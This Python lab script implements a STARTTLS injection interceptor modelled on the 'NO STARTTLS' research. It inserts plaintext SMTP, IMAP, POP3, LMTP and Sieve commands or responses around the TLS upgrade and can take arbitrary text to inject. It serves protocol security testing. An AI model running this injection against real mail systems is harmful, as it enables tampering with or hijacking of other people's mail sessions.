#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""A box that smuggles text around STARTTLS ("NO STARTTLS", USENIX Security 2021). For this lab only: to make captures of what
such boxes do.

command: behind the client's STARTTLS line, towards the server; in the same segment, or in one of its own before the
         answer can have arrived, or after the server's go-ahead, in front of the ClientHello (--place).
response: behind the server's go-ahead, towards the client; in the same segment or in one of its own.
The text is harmless and ends where the box stands: patched software on both sides throws it away, or hangs up.
"""
import dialogue
import intercept

COMMANDS = {
    "smtp": b"EHLO injected.example.org\r\nMAIL FROM:<injected@example.org>\r\n", "lmtp": b"LHLO injected.example.org\r\n",
    "imap": b"inj1 LOGIN injected injected\r\n", "pop3": b"USER injected\r\n", "sieve": b'CHECKSCRIPT "injected" {0+}\r\n\r\n',
}
RESPONSES = {
    "smtp": b"250-injected.example.org\r\n250 AUTH PLAIN LOGIN\r\n", "lmtp": b"250 injected.example.org\r\n",
    "imap": b"* 1 EXISTS\r\n* OK [ALERT] injected\r\n", "pop3": b"+OK injected\r\n", "sieve": b'OK "injected"\r\n',
}


class Injector(dialogue.Dialogue):
    def __init__(self, connection, what, place, text):
        super().__init__(connection)
        self.what, self.place = what, place
        self.text = text or (COMMANDS if what == "command" else RESPONSES)[self.protocol]

    def from_client(self, line):
        if self.what != "command" or self.asked is None or not self.is_starttls(line):
            return line
        if self.place == "same-segment":
            return line + self.text
        if self.place == "before-answer":
            self.to_server(line)
            return self.text
        return line

    def _relay(self, side, data, change):
        if side == "client" and self.accepted and not self.blind and (self.what, self.place) == ("command", "after-answer"):
            self.blind = True
            return self.text + data
        return super()._relay(side, data, change)

    def from_server(self, line):
        if not self.accepted or self.blind or self.what == "command":
            return line
        self.accepted = False
        if self.place == "same-segment":
            return line + self.text
        self.to_client(line)
        return self.text


def main():
    options = intercept.parser(__doc__)
    options.add_argument("--what", choices=("command", "response"), required=True)
    options.add_argument("--place", choices=("same-segment", "before-answer", "after-answer"), default="same-segment",
                         help="default: same-segment; for responses anything else means a segment of its own")
    options.add_argument("--text", help="what to inject, with \\r\\n written so (default: a harmless example of the "
                         "protocol)")
    arguments = options.parse_args()
    text = arguments.text and arguments.text.encode().decode("unicode_escape").encode("latin-1")

    def make(connection):
        return Injector(connection, arguments.what, arguments.place, text)

    intercept.serve(arguments, dialogue.handler(make))


if __name__ == "__main__":
    main()
